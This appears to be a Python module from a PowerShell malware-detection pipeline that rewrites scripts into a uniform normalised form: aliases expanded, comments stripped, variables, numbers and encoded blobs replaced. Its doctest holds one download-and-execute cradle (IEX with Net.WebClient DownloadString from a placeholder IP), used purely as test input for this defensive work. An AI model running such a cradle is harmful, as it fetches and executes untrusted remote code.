"""A text as it would be if everybody wrote alike: the view that format cannot fool.

In goes PowerShell, unwrapped (`unwrap`); out comes one line in small letters: no remarks, one kind
of quote, one space, variables without their names, digits as 0, long base64 and hex as a word,
common aliases written out. What is left is which commands, types, members and parameters are used,
and in what order. Lossy on purpose: beside it the models see the text as it came.
"""

import re

LONGEST = 16_384
"""Of a longer text the first so many characters are looked at."""
_KEPT = {
    "_", "args", "error", "executioncontext", "false", "home", "host", "input", "null", "pid",
    "profile", "pshome", "psscriptroot", "psversiontable", "pwd", "shellid", "true",
}  # fmt: skip
"""Variables that the shell sets: their names mean something."""
_ALIASES = {
    "iex": "invoke-expression", "iwr": "invoke-webrequest", "irm": "invoke-restmethod",
    "wget": "invoke-webrequest", "curl": "invoke-webrequest", "gci": "get-childitem",
    "dir": "get-childitem", "ls": "get-childitem", "gc": "get-content", "cat": "get-content",
    "type": "get-content", "gwmi": "get-wmiobject", "gcim": "get-ciminstance", "sal": "set-alias",
    "saps": "start-process", "start": "start-process", "sleep": "start-sleep", "icm":
    "invoke-command", "ipmo": "import-module", "gps": "get-process", "ps": "get-process",
    "kill": "stop-process", "del": "remove-item", "rm": "remove-item", "ri": "remove-item",
    "copy": "copy-item", "cp": "copy-item", "move": "move-item", "mv": "move-item", "mkdir":
    "new-item", "ni": "new-item", "sc": "set-content", "echo": "write-output", "foreach-object":
    "%", "foreach": "%", "where-object": "?", "where": "?", "select": "select-object", "gm":
    "get-member", "gsv": "get-service", "sp": "set-itemproperty", "gp": "get-itemproperty",
}  # fmt: skip
_BLOCK_REMARK = re.compile(r"<#[^#]*(?:#(?!>)[^#]*)*#>")
_REMARK = re.compile(r"(?:^|(?<=[\s;{}()]))#[^\n]*", re.MULTILINE)
_QUOTES = str.maketrans({"\"": "'", "‘": "'", "’": "'", "“": "'", "”": "'", "–": "-", "—": "-",
                         "`": None, "^": None, "\0": None})  # fmt: skip
_VARIABLE = re.compile(r"\$\{?((?:global:|script:|local:)?[a-z_]\w*)\b(?!:)\}?")
_HEX = re.compile(r"\b(?:0x)?[0-9a-f]{32,}\b")
_BASE64 = re.compile(r"[A-Za-z0-9+/]{48,}={0,2}")
_NUMBER = re.compile(r"\d+")
_SPACE = re.compile(r"\s+")
_AROUND = re.compile(r" ?([=+,;:|(){}\[\]<>&%!*]) ?")
_WORD = re.compile(r"(?<![\w$.:\\/-])[a-z]+(?:-object)?(?![\w.:\\/=-])")


def normalise(text: str) -> str:
    """The text in the form that all share; never longer than what aliases add.

    >>> normalise('IEX  (New-Object Net.WebClient).DownloadString("http://10.0.0.7/a")  # get it')
    "invoke-expression(new-object net.webclient).downloadstring('http://0.0.0.0/a')"
    """
    text = text[:LONGEST]
    if "<#" in text:
        text = _BLOCK_REMARK.sub(" ", text)
    if "#" in text:
        text = _REMARK.sub(" ", text)
    text = _BASE64.sub(_packed, text)
    text = text.lower().translate(_QUOTES)
    text = _HEX.sub("hexdata", text)
    text = _VARIABLE.sub(_named, text)
    text = _NUMBER.sub("0", text)
    text = _AROUND.sub(r"\1", _SPACE.sub(" ", text))
    return _WORD.sub(lambda m: _ALIASES.get(m[0], m[0]), text).strip()


def _packed(found: re.Match[str]) -> str:
    """Long paths and names are no base64: that has capitals, small letters and digits mixed."""
    text = found[0]
    mixed = text != text.lower() and text != text.upper() and any(c.isdigit() for c in text)
    return "basedata" if mixed and text.count("/") < len(text) / 8 else text


def _named(found: re.Match[str]) -> str:
    return found[0] if found[1] in _KEPT else "$v"
